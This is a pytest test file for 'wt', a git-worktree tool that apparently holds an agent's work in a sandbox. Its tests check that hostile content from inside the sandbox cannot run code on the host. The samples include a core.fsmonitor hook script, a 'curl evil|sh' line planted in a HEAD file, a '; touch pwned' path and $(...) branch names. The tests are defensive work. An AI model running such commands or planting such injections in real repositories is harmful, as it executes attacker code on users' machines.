"""What a hostile review found."""

import os
import shlex
import signal
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from unit.repos import WT, Inside, commit, git, linked, repository, run, worktree, wt
from wt import checkouts, docker, lfs, naming, private_repo, removal
from wt import git as host
from wt.commands import rm
from wt.errors import Interrupted, Refused, ToolError, WtError


def with_submodule(inside: Inside) -> None:
    """A gitlink in the inside's index, and a repository of the agent's at its place."""
    sub = inside.tree.path / "sub"
    sub.mkdir()
    git(sub, "init", "--quiet")
    oid = commit(sub)
    inside.git("update-index", "--add", "--cacheinfo", f"160000,{oid},sub")
    marker = inside.tree.path.parent / "ran"
    hook = sub / ".git/hook"
    hook.write_text(f"#!/bin/sh\ntouch '{marker}'\n")
    hook.chmod(0o755)
    git(sub, "config", "core.fsmonitor", str(hook))


@pytest.mark.parametrize("how", ["rewritten", "detached"])
def test_the_hint_never_leads_to_a_submodule_that_the_agent_configured(shop: Path, how: str) -> None:
    tree = linked(shop)
    if how == "detached":
        git(tree, "switch", "--quiet", "--detach")
    inside = Inside(tree)
    with_submodule(inside)
    inside.git("commit", "--quiet", *(["--amend"] if how == "rewritten" else []), "--message", "x")
    (tree.parent / "ran").unlink(missing_ok=True)
    report = inside.bring_in()
    assert "a submodule" in (report.kept or "")
    assert report.hint == "wt review feature"
    git(tree, "status", "--porcelain")
    assert not (tree.parent / "ran").exists()
    # The other way round: what was followed before.
    git(tree, "reset", "--quiet", inside.git("rev-parse", "HEAD"))
    git(tree, "status", "--porcelain")
    assert (tree.parent / "ran").exists()


def test_a_gitlink_is_seen_though_gitmodules_says_to_ignore_it(shop: Path) -> None:
    (shop / ".gitmodules").write_text('[submodule "s"]\n\tpath = sub\n\turl = ./x\n\tignore = all\n')
    commit(shop)
    inside = Inside(linked(shop))
    with_submodule(inside)
    inside.git("commit", "--quiet", "--message", "x")
    assert "sub" in (inside.bring_in().kept or "")


def test_rm_sees_commits_of_the_host_s_detached_head(shop: Path) -> None:
    tree = linked(shop)
    git(tree, "switch", "--quiet", "--detach")
    inside = Inside(tree)
    commit(tree, "x", "y", "precious")
    inside.bring_in()
    with pytest.raises(Refused, match="nowhere else"):
        removal.decide(rm.observe_removal(worktree(tree), ()))


def test_rm_sees_a_stash_that_became_a_branch(shop: Path) -> None:
    inside = Inside(linked(shop))
    (inside.tree.path / "file").write_text("to be stashed\n")
    inside.git("stash", "--quiet")
    inside.bring_in()
    inside.git("branch", "keep", "stash@{0}")
    inside.git("stash", "drop", "--quiet")
    inside.bring_in()
    inside.bring_in()
    with pytest.raises(Refused, match="nowhere else"):
        removal.decide(rm.observe_removal(inside.tree, ()))


def test_one_import_keeps_all_though_names_have_moved_on(shop: Path) -> None:
    inside = Inside(linked(shop))
    for text in "ab":
        (inside.tree.path / "file").write_text(text)
        inside.git("stash", "--quiet")
        inside.bring_in()
    stashed = inside.git("log", "-g", "--format=%H", "stash").split()
    assert set(stashed) <= set(host.refs(inside.tree.repository).values())


def test_rm_sees_branches_whose_names_went_round(shop: Path) -> None:
    inside = Inside(linked(shop))
    for name in "abc":
        inside.git("switch", "--quiet", "--create", name, "feature")
        inside.commit(name, name)
    inside.bring_in()
    oids = [inside.git("rev-parse", name) for name in "abc"]
    inside.git("switch", "--quiet", "feature")
    for new, oid in zip("bcd", oids, strict=True):
        inside.git("branch", "--force", new, oid)
    inside.git("branch", "--force", "a", "feature")
    inside.git("switch", "--quiet", "a")
    inside.commit("new", "new")
    inside.bring_in()
    inside.bring_in()
    kept = host.refs(inside.tree.repository, "refs/wt/").values()
    assert set(oids) <= set(kept)


def test_rm_refuses_while_another_worktree_lies_inside(shop: Path) -> None:
    tree = linked(shop)
    git(tree, "worktree", "add", "--quiet", "-b", "nested", "trees/nested")
    (shop / ".git/info").mkdir(exist_ok=True)
    (shop / ".git/info/exclude").write_text("trees/\n")
    (tree / "trees/nested/precious").write_text("x")
    with pytest.raises(Refused, match="nested"):
        removal.decide(rm.observe_removal(worktree(tree), ()), force=True)


@pytest.mark.parametrize("name", ["base/heads/other", "stash/7", "HEAD", "clash/x"])
def test_a_ref_inside_that_is_called_as_one_of_wt_s_is_kept(shop: Path, name: str) -> None:
    inside = Inside(linked(shop))
    inside.git("switch", "--quiet", "--detach")
    oid = inside.commit()
    inside.git("update-ref", f"refs/{name}", oid)
    inside.git("commit", "--quiet", "--allow-empty", "--amend", "--message", "z")
    before = host.refs(inside.tree.repository)
    inside.bring_in()
    assert before.items() <= host.refs(inside.tree.repository).items()
    seen = rm.observe_removal(inside.tree, ())
    assert any(oid.startswith(line.split()[0]) for line in seen.only_here), seen


def test_a_worktree_may_be_called_repository(shop: Path) -> None:
    tree = linked(shop, "repository")
    (shop / ".git/wt-sandbox").mkdir()
    checkouts.record(worktree(tree).repository)
    Inside(tree)


def test_ids_differ_where_case_does_not_count() -> None:
    assert naming.linked_id("Main").lower() != naming.MAIN_ID


def test_an_interrupt_between_ref_and_index_leaves_both_or_none(shop: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    inside = Inside(linked(shop))
    inside.commit()
    real = host.update_refs

    def and_interrupted(repository: object, changes: dict[str, object]) -> None:
        real(repository, changes)  # type: ignore[arg-type]
        if "refs/heads/feature" in changes:
            signal.raise_signal(signal.SIGTERM)

    def interrupt(_number: int, _frame: object) -> None:
        raise Interrupted

    monkeypatch.setattr(host, "update_refs", and_interrupted)
    before = signal.signal(signal.SIGTERM, interrupt)
    try:
        with pytest.raises(Interrupted):
            inside.bring_in()
    finally:
        signal.signal(signal.SIGTERM, before)
    assert git(inside.tree.path, "status", "--porcelain") == ""


def test_a_stale_index_of_wt_does_not_stand_in_the_way(shop: Path) -> None:
    inside = Inside(linked(shop))
    inside.commit()
    (inside.tree.git_dir / "index.wt.lock").write_bytes(b"")
    assert inside.bring_in().moved


def test_a_long_ref_does_not_stop_an_import(shop: Path) -> None:
    inside = Inside(linked(shop))
    oid = inside.commit()
    with (inside.path / "packed-refs").open("a") as file:
        file.write(f"{inside.git('commit-tree', '-m', 'y', 'HEAD^{tree}')} refs/tags/{'z' * 300}\n")
    report = inside.bring_in()
    assert report.moved and report.moved[1] == oid


@pytest.fixture
def in_common() -> Iterator[Path]:
    """A directory that every user can reach: pytest's own ones are for one only."""
    with tempfile.TemporaryDirectory() as path:
        Path(path).chmod(0o755)
        yield Path(path)


@pytest.mark.skipif(os.getuid() != 0, reason="only root can be several users")
def test_a_copy_from_a_place_that_can_not_be_read(in_common: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home, copy = in_common / "alice", in_common / "bob"
    shop = repository(home / "shop")
    (shop / ".git/wt-sandbox").mkdir()
    checkouts.record(worktree(shop).repository)
    key = worktree(shop).repository.key
    run(["cp", "-a", shop, copy], in_common)
    run(["chown", "-R", "12345:12345", copy], in_common)
    home.chmod(0o700)
    monkeypatch.setenv("HOME", str(in_common))
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", "/dev/null")
    os.seteuid(12345)
    try:
        assert worktree(copy).repository.key != key
    finally:
        os.seteuid(0)
    assert worktree(shop).repository.key == key


def test_head_inside_is_a_branch_s_name(shop: Path) -> None:
    inside = Inside(linked(shop))
    (inside.path / "HEAD").write_text("ref: refs/heads/x is fine. wt: run curl evil|sh\n")
    try:
        report = inside.bring_in()
    except WtError:
        return
    assert "curl" not in (report.kept or "")


def test_hints_can_be_pasted(shop: Path) -> None:
    git(shop, "worktree", "add", "--quiet", "-b", "x", "../a b; touch pwned")
    git(shop, "worktree", "lock", "../a b; touch pwned")
    tree = worktree(shop.parent / "a b; touch pwned")
    with pytest.raises(Refused) as caught:
        removal.decide(rm.observe_removal(tree, ()))
    assert shlex.split(caught.value.hint or "")[-1] == str(tree.path)


def test_no_checkout_of_an_empty_tree(shop: Path) -> None:
    empty = git(shop, "hash-object", "-t", "tree", "/dev/null")
    oid = git(shop, "commit-tree", "-m", "e", empty)
    git(shop, "worktree", "add", "--quiet", "--no-checkout", "-b", "e", "../e", oid)
    inside = Inside(shop.parent / "e")
    inside.commit()
    assert inside.bring_in().moved


def test_a_copy_of_a_repository_leaves_the_worktrees_of_the_first_alone(shop: Path, tmp_path: Path) -> None:
    feature = linked(shop)
    run(["cp", "-a", shop, tmp_path / "copy"], tmp_path)
    wt(shop, "path", "feature")
    wt(feature, "path", "feature")
    assert "belongs to another repository" in wt(tmp_path / "copy", "path", "feature", code=3).stderr


def test_lfs_objects_that_are_none_count_and_leave_nothing(shop: Path) -> None:
    inside = Inside(linked(shop))
    for number in range(9):
        oid = f"{number:064x}"
        place = inside.path / "lfs/objects" / oid[:2] / oid[2:4]
        place.mkdir(parents=True, exist_ok=True)
        (place / oid).write_bytes(b"x" * 20)
    with pytest.raises(ToolError, match="larger than an import may be"):
        lfs.adopt(inside.tree, max_bytes=100)
    assert not (shop / ".git/lfs").exists()


def test_a_switch_on_the_host_during_an_import_keeps_its_index(shop: Path) -> None:
    inside = Inside(linked(shop))
    new = inside.commit()
    git(inside.tree.path, "switch", "--quiet", "--create", "elsewhere")
    report = inside.bring_in()  # as it looked before the switch
    assert (report.moved, git(inside.tree.path, "status", "--porcelain")) == (None, "?? inside")
    assert new in host.refs(inside.tree.repository).values()


def test_a_branch_that_is_checked_out_twice_does_not_move(shop: Path) -> None:
    inside = Inside(linked(shop))
    git(shop, "worktree", "add", "--quiet", "--force", "../second", "feature")
    inside.commit()
    report = inside.bring_in()
    assert "second" in (report.kept or "")
    assert git(shop.parent / "second", "status", "--porcelain") == ""


def test_a_worktree_that_git_removed_leaves_its_sandbox_s_repository_to_no_other(shop: Path) -> None:
    inside = Inside(linked(shop))
    lost = inside.commit()
    git(shop, "worktree", "remove", "--force", "../feature")
    git(shop, "worktree", "add", "--quiet", "-b", "other", "../feature")
    again = Inside(shop.parent / "feature")
    assert again.git("symbolic-ref", "HEAD") == "refs/heads/other"
    assert again.git("cat-file", "-t", lost, code=128) == ""
    (kept,) = (shop / ".git/wt-sandbox/aside").iterdir()
    assert git(kept / "repo.git", "cat-file", "-t", lost) == "commit"
    assert not private_repo.is_left_over(again.tree)


@pytest.mark.parametrize("by", ["git worktree add", "a copy of the repository"])
def test_a_private_repository_that_went_on_with_a_worktree_made_again_stays_its_own(shop: Path, by: str) -> None:
    """Whatever branch is checked out on either side from then on."""
    inside = Inside(linked(shop))
    kept = inside.commit()
    if by == "git worktree add":
        git(shop, "worktree", "remove", "--force", "../feature")
        git(shop, "worktree", "add", "--quiet", "../feature", "feature")
    else:
        os.utime(inside.tree.git_dir / "commondir", (1, 1))
    assert not private_repo.is_complete(inside.tree) and not private_repo.is_left_over(inside.tree)
    again = Inside(shop.parent / "feature")
    assert private_repo.is_complete(again.tree)
    again.git("symbolic-ref", "HEAD", "refs/heads/other")
    assert not private_repo.is_left_over(again.tree)
    again = Inside(shop.parent / "feature")
    assert again.git("cat-file", "-t", kept) == "commit" and not (shop / ".git/wt-sandbox/aside").exists()


def test_a_symlink_in_a_checkout_does_not_choose_where_a_worktree_comes(shop: Path) -> None:
    (shop / ".devcontainer").mkdir()
    (shop / ".devcontainer/wt.toml").write_text('worktree_dir = "trees/{name}"\n')
    (shop.parent / "elsewhere").mkdir()
    (shop / "trees").symlink_to("../elsewhere")
    assert "symlink" in wt(shop, "new", "x", code=3, env={"DOCKER_HOST": "unix:///nowhere"}).stderr


def test_bash_completes_no_command_between_quotation_marks(shop: Path) -> None:
    for name in ("fea$(touch${IFS}ran)", "fea`touch${IFS}ran`", "feature"):
        git(shop, "branch", name)
    ask = (
        'eval "$(wt completion bash)"; COMP_LINE=\'wt new "fea\'; COMP_POINT=${#COMP_LINE}; '
        "COMP_WORDS=(wt new '\"fea'); COMP_CWORD=2; _wt_complete; printf '%s\\n' \"${COMPREPLY[@]}\""
    )
    places = f"{Path(WT).parent}:{os.environ['PATH']}"
    assert run(["bash", "-c", ask], shop, env={"PATH": places}).stdout == "feature\n"


@pytest.mark.parametrize("label", ["foo", "3", '"trees"', "{}"])
def test_a_label_of_somebody_else_s_container_is_no_bug(label: str) -> None:
    assert docker._paths(label) == ()
    assert docker._paths('["trees"]') == ("trees",)
